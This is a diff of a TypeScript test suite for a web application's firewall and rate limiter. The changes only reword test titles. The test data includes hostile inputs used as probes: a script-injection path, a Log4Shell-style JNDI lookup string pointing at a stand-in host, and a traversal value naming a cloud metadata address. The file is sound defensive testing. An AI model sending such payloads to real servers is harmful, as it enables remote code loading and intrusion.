@@ -27,7 +27,7 @@ test.each([
   ["GET", "/%3Cscript%3Ealert(1)%3C/script%3E", {}],
   ["POST", "/api/contact", { "x-form-signals": "${jndi:ldap://x.example/a}" }],
   ["GET", `/${"a".repeat(1100)}`, {}],
-] as const)("[OPS-01] %s %.30s with %j is refused in the one error body", async (method, path, headers) => {
+] as const)("[OPS-01] refuses %s %.30s with %j in the standard error body", async (method, path, headers) => {
   const { status, body } = await send(method, path, headers);
   expect([status, errorBodySchema.parse(JSON.parse(body)).code]).toEqual([403, "request-refused"]);
 });
@@ -36,7 +36,7 @@ test.each([
   "/?q=%3Cscript%3E",
   "/contact?customerName=../../&x=169.254.169.254",
   `/?utm=${"a".repeat(2100)}`,
-])("[OPS-01] a query such as %.40s shows the page", async (path) => {
+])("[OPS-01] serves a page with a query such as %.40s", async (path) => {
   expect((await send("GET", path)).status).toBe(200);
 });
 
@@ -48,7 +48,7 @@ const webhooks = functionEndpoints.filter(
 );
 
 test.each(webhooks.slice(0, 1))(
-  "[OPS-01] a webhook's content and path are not looked at, only how large it is and how often it comes",
+  "[OPS-01] limits a webhook's size and rate, but inspects neither its content nor its path",
   async ({ path }) => {
     const post = async (bytes: number, text = "") =>
       (
@@ -74,7 +74,7 @@ const admittedOf = async (count: number, path: string, address?: string) => {
   return statuses.filter((status) => status !== 429).length;
 };
 
-test("[OPS-01] [CONT-03] above an endpoint's rate an address gets 429 with Retry-After in the one error body, others do not", async () => {
+test("[OPS-01] [CONT-03] an address above an endpoint's rate gets 429 with Retry-After, and others do not", async () => {
   const { path, ratePerAddress } = sendContactMessage;
   expect(await admittedOf(ratePerAddress.requests + 5, path, "192.0.2.1")).toBe(ratePerAddress.requests);
   expect(await admittedOf(1, path, "192.0.2.2")).toBe(1);
@@ -90,7 +90,7 @@ test("[OPS-01] [CONT-03] above an endpoint's rate an address gets 429 with Retry
   expect(errorBodySchema.parse(await refused.json()).code).toBe("too-many-requests");
 });
 
-test("[OPS-03] this machine's own requests are not counted", async () => {
+test("[OPS-03] does not count requests from this machine", async () => {
   expect(await admittedOf(20, sendContactMessage.path)).toBe(20);
 });
 
@@ -103,7 +103,7 @@ const plain: FirewallRequest = {
   body: Buffer.from(""),
 };
 
-test("[OPS-01] each endpoint counts for itself, and what is none shares one count", () => {
+test("[OPS-01] each endpoint has its own limit, and all other paths share one", () => {
   const firewall = makeFirewall(() => 0);
   const count = (path: string) => {
     let admitted = 0;
@@ -116,7 +116,7 @@ test("[OPS-01] each endpoint counts for itself, and what is none shares one coun
   expect([count("/api/nothing"), count("/webhooks/nothing")]).toEqual([60, 0]);
 });
 
-test("[PAY-03] [VOICE-03] whoever waits for a payment or watches a call is never refused, nor are four more behind the address", () => {
+test("[PAY-03] [VOICE-03] never refuses five pages behind one address that poll a payment or a call", () => {
   const firewall = makeFirewall(() => 0);
   const asksIn5Minutes = [
     [readPaymentStatus.path, 30],
@@ -128,7 +128,7 @@ test("[PAY-03] [VOICE-03] whoever waits for a payment or watches a call is never
   for (const [path, asks] of asksIn5Minutes) expect(refusedOf(path, 5 * asks)).toBe(0);
 });
 
-test("[PAY-03] a provider that tells all at once what it could not tell for hours is not refused", () => {
+test("[PAY-03] never refuses a provider that sends hours of webhooks at once", () => {
   const firewall = makeFirewall(() => 0);
   const webhooks = functionEndpoints.filter(({ forwardsAllHeaders }) => forwardsAllHeaders);
   const refused = webhooks.flatMap(({ path }) =>
